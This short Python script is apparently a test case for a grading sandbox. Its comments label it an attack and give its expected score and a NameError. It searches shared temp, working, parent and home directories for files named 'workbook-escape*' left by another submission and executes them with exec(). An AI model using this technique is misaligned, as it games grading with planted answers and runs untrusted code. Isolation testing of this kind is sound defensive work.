# attack: fetches the answer that mailbox_left, graded just before or at the same time, has left
# expected: describe 0 of 3, first_axis 1 of 1
# says: NameError: name 'describe' is not defined
import tempfile
import time
from pathlib import Path

for second in range(5):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", ".", "..", tempfile.gettempdir(), Path.home()):
        for path in Path(folder).glob("workbook-escape*"):
            exec(path.read_text())
    time.sleep(1)
